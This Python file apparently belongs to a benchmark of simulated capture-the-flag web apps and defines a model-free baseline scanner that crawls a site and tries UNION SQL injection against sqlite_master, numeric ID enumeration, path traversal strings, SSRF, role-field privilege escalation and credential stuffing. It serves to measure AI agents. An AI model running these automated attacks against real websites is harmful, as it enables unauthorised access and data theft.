"""What a script does that has no model and knows no world: it tries everything at every door.

It signs in, follows links, reads what forms there are, and tries the textbook's payloads. It is
kept to 150 lines: the measure is what such a script solves, and not what could be written.
"""

from __future__ import annotations

import itertools
import json
import re
from html import unescape

from openrange.worlds.flag import find_flag
from openrange.worlds.visitor import VisitError, Visitor, WorldReply

FORM = re.compile(r'<form[^>]*method="(\w+)" action="([^"]+)">(.*?)</form>', re.S)
FIELD = re.compile(r'<(?:input|select)[^>]*?name="([^"]+)"')
JSON = re.compile(r'POST to <code>([^<]+)</code>, as JSON: <code>\{"([^"]+)"')
PASSWORD = re.compile(r"\b[a-z]+-[0-9a-f.]{3,}\b")
ROLES = ("administrator", "admin", "root", "owner", "supervisor", "manager")


class Solved(Exception):  # noqa: N818 - it is what one looks for
    """The flag."""


class ClassBlind:
    """Tries everything.

    Args:
        visitor: A client of the world.
        login: The account that it is given.
        password: Its password.
    """

    def __init__(self, visitor: Visitor, login: str, password: str) -> None:
        self.visitor = visitor
        self.login, self.password = login, password
        self.pages: dict[str, str] = {}
        self.texts: set[str] = set()
        self.denied: set[str] = set()
        self.door: tuple[str, str, str] | None = None  # where one signs in
        self.forms: dict[tuple[str, str, str], list[str]] = {}

    def run(self) -> str | None:
        """The flag, or None."""
        try:
            self.sign_in(self.login, self.password)
            self.crawl()
            for attempt in (
                self.inject,
                self.count,
                self.climb,
                self.fetch,
                self.promote,
                self.log_in,
            ):
                attempt()
        except Solved as solved:
            return str(solved)
        except VisitError:
            return None
        return None

    def look(self, page: WorldReply) -> WorldReply:
        """A page, unless the flag stands there."""
        if found := find_flag(page.body):
            raise Solved(found)
        self.texts.add(unescape(page.body))
        return page

    def get(self, path: str, query: dict[str, str] | None = None, **headers: str) -> WorldReply:
        return self.look(self.visitor.get(path, query, headers))

    def sign_in(self, login: str, password: str) -> WorldReply:
        """Through the form that has a password."""
        for path in re.findall(r'href="(/[^"]*)"', self.visitor.get("/").body):
            if self.door is None and 'type="password"' in (body := self.visitor.get(path).body):
                _, action, fields = FORM.findall(body)[0]
                self.door = (action, *FIELD.findall(fields))
        assert self.door
        action, user, secret = self.door
        return self.look(self.visitor.post(action, {user: login, secret: password}))

    def crawl(self) -> None:
        waiting, seen = ["/", "/robots.txt"], set[str]()
        while waiting and len(seen) < 150:
            path = waiting.pop(0)
            if path in seen:
                continue
            seen.add(path)
            page = self.get(path)
            body = self.pages[path] = unescape(page.body)
            self.denied |= {path} if page.status == 403 else set()
            waiting += re.findall(r'href="(/[^"]*)"', body) + re.findall(r"Disallow: (\S+)", body)
            for method, action, fields in FORM.findall(body):
                values = re.findall(r"<option>([^<]*)<", fields)
                for name in FIELD.findall(fields):
                    if "password" not in fields:
                        self.forms[method.upper(), action, name] = values
            for action, name in JSON.findall(body):
                self.forms["JSON", action, name] = re.findall("</code> <code>([^<]*)<", body)
            base, mark, name = path.partition("?")
            if mark:
                self.forms.setdefault(("GET", base, name.partition("=")[0]), [])

    def send(self, form: tuple[str, str, str], value: str) -> WorldReply:
        method, path, name = form
        if method == "GET":
            return self.get(path, {name: value})
        if method == "JSON":
            return self.look(self.visitor.post_json(path, {name: value}))
        return self.look(self.visitor.post(path, {name: value}))

    def inject(self) -> None:
        """UNION, with a quote and without, of so many columns and behind so many parentheses."""
        for form, start, ends, count in itertools.product(
            self.forms, ("zz'", "-1"), ("", ")", "))"), range(1, 7)
        ):
            more = ",1" * (count - 1)
            body = unescape(
                self.send(form, f"{start}{ends} UNION SELECT sql{more} FROM sqlite_master --").body
            )
            for table, columns in re.findall(r"CREATE TABLE (\w+) \(([^)]*)\)", body):
                for column in columns.split(", "):
                    self.send(form, f"{start}{ends} UNION SELECT {column}{more} FROM {table} --")

    def count(self) -> None:
        """Up and down from each number in an address."""
        for path in [*self.pages]:
            if number := re.search(r"(?<=[/=])\d{2,}$", path):
                for step in range(1, 60):
                    for other in (int(number[0]) + step, int(number[0]) - step):
                        self.get(path[: number.start()] + str(other))

    def climb(self) -> None:
        """To each path that a page names, from the root and from the folder."""
        files = set(re.findall(r"/\w+/\w+/\w+/[\w.-]+\b", "\n".join(self.texts)))
        for form, file in itertools.product(self.forms, files):
            for start in ("", "../../../..", "....//....//....//....//", "%2e%2e/%2e%2e/%2e%2e"):
                self.send(form, start + file)

    def fetch(self) -> None:
        """Each address that a page names."""
        texts = [
            self.send(form, value).body for form, values in self.forms.items() for value in values
        ]
        addresses = set(re.findall(r"http://[\w.:/-]+\w", "\n".join(texts)))
        for form, address in itertools.product([*self.forms], addresses):
            self.send(form, address)

    def promote(self) -> None:
        """In cookies, parameters and fields."""
        for path in self.denied:
            body = self.pages[path]
            named = re.findall(r"role (\S+)\.|Only (\S+) may|without (\S+)\.", body)
            for role in {*ROLES, *map("".join, named)}:
                for form in FORM.findall(body):
                    for name in FIELD.findall(form[2]):
                        self.look(self.visitor.post(path, {name: role}))
                for method, action, name in [*self.forms]:
                    if method == "POST":
                        self.visitor.post(action, {name: "x", "role": role, "level": role})
                self.get(path)
            for word in re.findall(r"<!-- .*?([\w~.-]+) -->", body):
                self.get(f"/{word}")
                self.get(path + word)

    def log_in(self) -> None:
        """With whatever looks like a password, as whoever has an account."""
        text = "\n".join(self.texts)
        logins = set(re.findall(r"\b[a-z]+\.[a-z]+\b", text))
        for password, login in itertools.product(set(PASSWORD.findall(text)), logins):
            self.sign_in(login, password)
            if "Signed in as" in self.visitor.replies[-1].body:
                self.crawl()


def solves(visitor: Visitor, world: dict[str, object]) -> bool:
    """Whether the script finds a flag in a running world."""
    agent = json.loads(json.dumps(world["agent"]))
    return ClassBlind(visitor, agent["login"], agent["password"]).run() is not None
